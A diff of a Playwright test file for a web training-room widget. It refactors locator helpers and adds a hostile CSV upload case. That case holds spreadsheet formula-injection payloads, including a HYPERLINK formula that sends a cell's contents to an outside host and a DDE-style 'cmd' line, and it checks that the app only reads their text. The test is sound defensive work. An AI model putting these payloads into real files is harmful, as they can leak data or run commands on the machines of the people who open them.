@@ -1,13 +1,9 @@
 import { writeFile } from 'node:fs/promises';
 import type { Browser } from '@playwright/test';
+import { button, readout, room, slider } from '../support/browser/roomFigure.ts';
 import { expect, type Page, test } from '../support/browser.ts';
 
-const room = (page: Page) => page.locator('figure.widget');
-const readout = (page: Page) => room(page).locator('.readout').first();
-const button = (page: Page, name: string | RegExp) =>
-  room(page).getByRole('button', { name, exact: typeof name === 'string' });
-const furthest = async (page: Page) =>
-  Number(await room(page).getByRole('slider', { name: 'Step', exact: true }).getAttribute('max'));
+const furthest = async (page: Page) => Number(await slider(page).getAttribute('max'));
 
 async function openBig(page: Page): Promise<void> {
   await page.goto('/workbench/training-room/spiral/');
@@ -75,6 +71,11 @@ const hostile: readonly (readonly [string, () => string | Buffer, RegExp])[] = [
   ['a million rows', () => `a,b,c\n${'1,2\n'.repeat(1_000_000)}`, /No row has 3 cells|of 1000000 rows/],
   ['binary', () => Buffer.from(Array.from({ length: 4_000 }, (_byte, i) => (i * 37) % 256)), /text/],
   ['a quotation that never ends', () => `a,b\n"1,${'2'.repeat(20_000)}`, /quot/],
+  [
+    'nothing but formulas',
+    () => `a,b,kind\n${'=HYPERLINK("http://example.org?x="&A1),+cmd|x!A0,@SUM(A1:A9)\n'.repeat(20_000)}`,
+    /6000 cells are formulas, the first “=HYPERLINK.*only the text is read/,
+  ],
   ['ragged rows only', () => 'a,b,c\n1,2\n3\n4,5,6,7\n', /No row has 3 cells/],
 ];
 
@@ -112,12 +113,11 @@ test('a straight run, and one that was stopped, scrubbed and branched, agree bit
   }
   const straight = await weights();
   await page.reload();
-  const slider = room(page).getByRole('slider', { name: 'Step', exact: true });
   await button(page, 'Play').click();
   await expect.poll(() => furthest(page)).toBeGreaterThan(400);
   await button(page, 'Pause').click();
   for (const step of ['390', '7', '150', '180']) {
-    await slider.fill(step);
+    await slider(page).fill(step);
     await expect(readout(page)).toContainText(`Step ${step},`);
   }
   expect(await weights()).toEqual(straight);
@@ -127,7 +127,7 @@ test('a straight run, and one that was stopped, scrubbed and branched, agree bit
   await epoch.click();
   await expect(readout(page)).toContainText('Step 198,');
   await room(page).getByRole('button', { name: 'Show' }).first().click();
-  await slider.fill('180');
+  await slider(page).fill('180');
   await expect(readout(page)).toContainText('Step 180,');
   expect(await weights()).toEqual(straight);
 });
